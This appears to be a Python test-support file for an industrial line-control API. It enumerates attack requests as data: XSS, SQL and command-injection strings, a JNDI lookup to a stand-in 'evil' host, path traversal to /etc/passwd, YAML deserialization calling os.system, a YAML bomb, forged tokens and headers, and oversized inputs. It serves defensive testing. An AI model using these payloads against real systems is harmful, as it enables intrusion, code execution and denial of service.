"""Attacks on the API as data: who sends what, and what would count as a success.

Everything that is not refused with a status of 400 or above is one, unless the attack says else.
"""

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import httpx

from tests.support.api_rig import ORIGIN

JSON = "application/json"
EVIL = "evil.example"
START = '{"verb": "START"}'
CHANGES, ACTIONS = "/stations/coater/changes", "/stations/coater/actions"
SET = {"verb": "SET", "target": "COAT.V.LINE.SP", "value": 6.0}
HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "';DROP TABLE users;--",
    '"><svg/onload=alert(1)>', "{{7*7}}", "${jndi:ldap://evil/x}", "%0d%0aSet-Cookie: x=y",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "a" * 3_000, "\u202egnp.exe", "сato", "NUL", "con", "-rf", "--out=/etc", "\ud800", "\x1b[2J",
)  # fmt: skip


def succeeded(answer: httpx.Response) -> bool:
    """It was not refused."""
    return answer.status_code < 400


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """who: stranger, viewer, operator, engineer or admin. key: with an Idempotency-Key."""

    what: str
    who: str
    method: str = "POST"
    path: str = ACTIONS
    headers: Mapping[str, str] = field(default_factory=dict)
    content: bytes = b""
    won: Callable[[httpx.Response], bool] = succeeded


def every_attack() -> Iterator[Attack]:
    """All of them."""
    yield from _smuggled_json()
    yield from _forged_proofs()
    yield from _foreign_pages()
    yield from _stolen_rights()
    yield from _paths()
    yield from _names()
    yield from _uploads()
    yield from _sizes()
    yield from _logins()
    yield from _trail()
    yield from _methods()


def _json(text: str, **more: Any) -> Attack:
    headers = {"content-type": JSON, **more.pop("headers", {})}
    usual = {"who": "operator", "path": CHANGES}
    return Attack(content=text.encode("utf-8", "surrogatepass"), headers=headers,
                  **{**usual, **more})  # fmt: skip


def _smuggled_json() -> Iterator[Attack]:
    for value in ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", '"6"', "true", "[6]", "null",
                  '{"$ne": 0}', "6e", "0x10", "1_000", "９", '"Infinity"', "1" * 400):  # fmt: skip
        text = f'{{"verb": "SET", "target": "COAT.V.LINE.SP", "value": {value}}}'
        yield _json(text, what=f"value {value[:20]}")
    for text in (
        '{"verb": "SET", "target": "COAT.V.LINE.SP", "value": 6.0, "value": 7.0}',
        '{"verb": "HOLD", "verb": "START"}',
        '{"verb": "START", "actor": "eva"}',
        '{"verb": "START", "roles": ["administrator"]}',
        '{"verb": "START", "__proto__": {"admin": true}}',
        '{"verb": "START"} {"verb": "STOP"}',
        '{"verb": "START"}//',
        "/*x*/" + START,
        "\ufeff" + START,
        '{"verb": "DEPLOY", "target": "x", "value": "nmc-standard"}',
        '{"verb": "BYPASS", "target": "torque", "value": 60.0, "reason": "x"}',
        '{"verb": "start; rm -rf"}',
        '{"verb": "SET", "target": "COAT.CMD\\u0000", "value": 1.0}',
        '{"verb": "SET", "target": "ENC.DP.SP", "value": -60.0}',
        '{"verb": "SET", "target": "COAT.TORQUE", "value": 1.0}',
        '{"verb": "SET", "target": "*", "value": 1.0}',
        '{"verb": "SET", "target": "COAT.V.LINE.SP", "value": 20.000001}',
        '{"verb": "SET", "target": "COAT.V.LINE.SP", "value": -0.0001}',
        '{"verb": "START", "version": -1}',
        '{"verb": "START", "version": 1.5}',
        '{"verb": "START", "reason": "\\ud800"}',
        '{"verb": "START", "reason": "a\\u001b[2J"}',
        "[" * 2_000 + "]" * 2_000,
        '{"a":' * 2_000 + "1" + "}" * 2_000,
    ):  # fmt: skip
        yield _json(text, what=f"body {text[:40]!r}")
    wide = json.dumps(SET).encode("utf-16")
    yield Attack(what="UTF-16", who="operator", path=CHANGES, content=wide,
                 headers={"content-type": JSON})  # fmt: skip
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "",
                 "application/json; charset=utf-7", "text/json"):  # fmt: skip
        content = START.encode("utf-7" if "utf-7" in kind else "utf-8") + b"+"
        yield Attack(what=f"type {kind}", who="operator", content=content,
                     headers={"content-type": kind} if kind else {})  # fmt: skip


def _forged_proofs() -> Iterator[Attack]:
    for name, value in (
        ("cookie", "dryline-session="), ("cookie", "dryline-session=" + "A" * 43),
        ("cookie", "dryline-session=' OR 1=1 --"), ("cookie", "__Host-dryline-session=x"),
        ("authorization", "Bearer "), ("authorization", "Bearer dryline_x_y"),
        ("authorization", "Basic YWRtaW46YWRtaW4="), ("authorization", "Bearer null"),
        ("authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJjaGllZiJ9."),
        ("x-dryline-actor", "chief"), ("x-dryline-user", "root"), ("x-user", "chief"),
        ("x-remote-user", "chief"), ("remote-user", "chief"), ("x-forwarded-user", "chief"),
        ("x-forwarded-for", "127.0.0.1"), ("x-real-ip", "127.0.0.1"),
        ("forwarded", "for=127.0.0.1"),
        ("x-forwarded-host", "localhost"), ("x-original-url", "/api/v1/users"),
        ("x-rewrite-url", "/api/v1/users"), ("x-http-method-override", "GET"),
    ):  # fmt: skip
        for path in ("/tags", "/users", "/audit", "/health/figures"):
            yield Attack(what=f"{name}: {value[:30]} for {path}", who="stranger", method="GET",
                         path=path, headers={name: value})  # fmt: skip


def _foreign_pages() -> Iterator[Attack]:
    name = ORIGIN.removeprefix("http://")
    for origin in (f"http://{EVIL}", "null", f"https://{name}", f"{ORIGIN}.evil.example",
                   f"http://{EVIL}/{name}", f"http://{name}@{EVIL}", f"{ORIGIN}1", "*",
                   f"{ORIGIN} http://{EVIL}", ORIGIN.replace("http", "file")):  # fmt: skip
        yield _json(START, what=f"origin {origin}", path=ACTIONS, headers={"origin": origin})
    for host in ("evil.example", "", "127.0.0.1.evil.example", f"{name}@evil.example",
                 f"{name}, evil.example", "line7.evil", "[::ffff:10.0.0.5]"):  # fmt: skip
        yield Attack(what=f"host {host!r}", who="operator", method="GET", path="/tags",
                     headers={"host": host})  # fmt: skip
    for headers in ({"x-requested-with": "XMLHttpRequest"}, {"x-requested-with": ""},
                    {"x-csrf-token": ""}, {"x-csrf-token": "A" * 43},
                    {"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"},
                    {"sec-fetch-site": "none"}):  # fmt: skip
        yield _json(START, what=f"page {headers}", path=ACTIONS, headers=headers)


def _stolen_rights() -> Iterator[Attack]:
    bodies: Mapping[str, Any] = {
        ACTIONS: {"verb": "START"},
        CHANGES: SET,
        "/stations/coater/deployments": {"recipe": "nmc-standard", "expected": 0, "reason": "x"},
        "/stations/coater/rollback": {"expected": 0, "reason": "x"},
        "/stations/coater/interlocks/torque/bypass": {"for_s": 60.0, "reason": "x"},
        "/alarms/COAT.LOAD.hi/ack": {"occurrence": 1},
        "/alarms/COAT.LOAD.hi/out-of-service": {"reason": "x"},
        "/recipes/coater/nmc-standard/versions": {"base": "nmc-standard", "version": "9.0.0",
                                                  "reason": "x"},
        "/recipes/coater/nmc-standard/1.0.0/release": {"content_hash": "x", "reason": "x"},
        "/recipes/coater/nmc-standard/1.0.0/obsolete": {"reason": "x"},
        "/users": {"name": "evil", "roles": ["administrator"], "password": "wagtail orbit x",
                   "reason": "x"},
        "/users/chief/disable": {"reason": "x"},
        "/tokens": {"owner": "chief", "label": "x", "permissions": ["administer"], "reason": "x"},
        "/rehearsals": {"kind": "coater", "recipe": "nmc-standard"},
        "/simulator/faults": {"station": "enclosure", "name": "heater_failure"},
    }  # fmt: skip
    for path, body in bodies.items():
        for who in ("stranger", "viewer"):
            yield _json(json.dumps(body), what=f"{who} posts {path}", who=who, path=path)
    for path in ("/users/viewer/roles", "/users/chief/password", "/energy/baseline"):
        yield _json("{}", what=f"viewer puts {path}", who="viewer", method="PUT", path=path)
    for path in ("/users", "/tokens", "/audit", "/audit/export", "/journal.csv"):
        yield Attack(what=f"viewer gets {path}", who="viewer", method="GET", path=path)
    tune = {"verb": "TUNE", "target": "ENC.L1", "value": "1,1,1", "reason": "x"}
    yield _json(json.dumps(tune), what="operator tunes", path="/stations/enclosure/changes")
    for path in ("/users", "/tokens"):  # without the password entered again
        yield _json(json.dumps(bodies[path]), what=f"admin posts {path}", who="admin", path=path)
    for ticket in ("", "A" * 43, "' OR 1=1 --"):
        yield _json('{"reason": "x"}', what="forged ticket", who="admin",
                    path="/users/sato/disable", headers={"x-dryline-ticket": ticket})  # fmt: skip
    for token in ("", "A" * 22, "../x", "%2e%2e", "null", "0"):
        yield _json('{"seen_t": 1}', what=f"proposal {token}", path=f"/changes/{token}/execute")


def _paths() -> Iterator[Attack]:
    up = ("../", "%2e%2e/", "..%2f", "..%252f", "....//", "%c0%ae%c0%ae/", "..\\", "%00/", "//")
    for step in up:
        for template in ("/recipes/coater/{}etc/passwd/1.0.0", "/runs/{}etc/passwd/bundle",
                         "/rehearsals/{}x/picture", "/history/{}raw", "/trials/{}x", "/lots/{}x",
                         "/stations/{}x"):  # fmt: skip
            yield Attack(what=f"path {template} {step}", who="engineer", method="GET",
                         path=template.format(step * 3))  # fmt: skip


def _names() -> Iterator[Attack]:
    """What people read must be text: these may be taken, and must come back as they went in."""
    for text in HOSTILE:
        shown = text.encode("utf-8", "replace").decode()
        yield Attack(what=f"lot {shown[:20]}", who="operator", method="GET",
                     path=f"/lots/{quote(shown, safe='')}")  # fmt: skip
        yield Attack(what=f"user {shown[:20]}", who="admin", path="/users",
                     content=json.dumps({"name": text, "roles": ["viewer"], "reason": "x",
                                         "password": "wagtail orbit x"}).encode(),
                     headers={"content-type": JSON})  # fmt: skip
        yield Attack(what=f"tag {shown[:20]}", who="viewer", method="GET",
                     path=f"/history/raw?tag={quote(shown, safe='')}")  # fmt: skip
        yield Attack(what=f"recipe {shown[:20]}", who="engineer", method="PUT",
                     path=f"/recipes/coater/{quote(shown, safe='')}/1.0.0?reason=x",
                     headers={"content-type": "application/yaml"},
                     content=b"header: {}")  # fmt: skip


def _uploads() -> Iterator[Attack]:
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + k)}: &{chr(98 + k)} [{','.join(['*' + chr(97 + k)] * 9)}]\n" for k in range(9)
    )
    for what, content in (
        ("bomb", bomb.encode()), ("python object", b"!!python/object/apply:os.system ['id']"),
        ("python name", b"header: !!python/name:os.system"), ("binary", bytes(range(256)) * 10),
        ("deep", b"[" * 5_000), ("deep maps", b"{a: " * 3_000), ("empty", b""), ("null", b"null"),
        ("merge", b"<<: *x\n"), ("long key", b"? " + b"k" * 70_000 + b"\n: 1\n"),
        ("documents", b"---\na: 1\n---\nb: 2\n"), ("html", b"<html><script>alert(1)</script>"),
        ("other author", b"header:\n  author: chief\n"), ("huge", b"# " + b"x" * 300_000),
    ):  # fmt: skip
        for kind in ("application/yaml", "text/plain"):
            yield Attack(what=f"upload {what} {kind}", who="engineer", method="PUT",
                         path="/recipes/coater/evil/1.0.0?reason=x", content=content,
                         headers={"content-type": kind})  # fmt: skip


def _sizes() -> Iterator[Attack]:
    for size in (65 * 1024, 330 * 1024, 2 * 1024 * 1024):
        yield _json('{"verb": "START", "reason": "' + "x" * size + '"}', what=f"{size} bytes")
    yield Attack(
        what="long address", who="operator", method="GET", path="/tags?tag=" + "x" * 20_000
    )
    yield Attack(what="long path", who="operator", method="GET", path="/stations/" + "x" * 2_000)
    yield Attack(what="many parameters", who="operator", method="GET",
                 path="/tags?" + "&".join(["tag=x"] * 1_500))  # fmt: skip
    yield Attack(what="long header", who="operator", method="GET", path="/tags",
                 headers={"x": "a" * 100_000})  # fmt: skip
    many = {f"x-{k}": "y" for k in range(80)}
    yield Attack(what="many headers", who="operator", method="GET", path="/tags", headers=many)
    for window in ("start=-99999d", "n=999999999", "n=-1", "start=1e999", "tag=*" * 60):
        yield Attack(what=f"window {window[:20]}", who="viewer", method="GET",
                     path=f"/history/buckets?tag=x&{window}")  # fmt: skip
    for bins in ("999999999", "0", "1e3", "nan"):
        yield Attack(what=f"bins {bins}", who="viewer", method="GET",
                     path=f"/runs/curves?run=x&what=y&bins={bins}")  # fmt: skip


def _logins() -> Iterator[Attack]:
    for name, password in (
        ("sato", ""), ("", ""), ("sato' --", "x"), ("sato\u0000", "x"), ("SATO ", "x"), ("*", "*"),
        ("chief", "chief"), ("admin", "admin"), ("root", ""), ("sato", "x" * 600), ("x" * 300, "y"),
        ("sato", "\ud800"), ("сato", "x"), ("terminal", ""), ("token x of sato", "x"),
    ):  # fmt: skip
        body = json.dumps({"name": name, "password": password})
        yield _json(body, what=f"login {name[:20]!r}", who="stranger", path="/session")
    for body in ('{"name": "sato"}', '{"name": ["sato"], "password": {"$gt": ""}}', "[]",
                 '{"name": "sato", "password": null}', '{"name": "sato", "password": true}',
                 '{"name": "sato", "password": "x", "roles": ["administrator"]}'):  # fmt: skip
        yield _json(body, what=f"login {body[:30]}", who="stranger", path="/session")
    for code in ("", "000000", "A" * 40, "' OR 1=1 --"):
        body = json.dumps({"code": code, "name": "evil", "password": "wagtail orbit x"})
        yield _json(body, what=f"setup with {code[:10]}", who="stranger", path="/setup")


def _trail() -> Iterator[Attack]:
    """Nobody changes the trail, nor takes it from under the line."""
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        for path in ("/audit", "/audit/1", "/audit/verify", "/audit/export", "/journal"):
            yield _json("{}", what=f"{method} {path}", who="admin", method=method, path=path)


def _methods() -> Iterator[Attack]:
    for method in ("TRACE", "CONNECT", "PATCH", "PROPFIND", "MOVE", "OPTIONS", "FOO"):
        yield Attack(what=method, who="operator", method=method, path="/stations/coater")
    for path in ("/docs", "/redoc", "/openapi.yaml", "/../openapi.json", "/.git/config", "/.env",
                 "/static/../x", "/debug", "/metrics/", "/admin", "/graphql",
                 "/console"):  # fmt: skip
        yield Attack(what=f"looks for {path}", who="admin", method="GET", path=path)
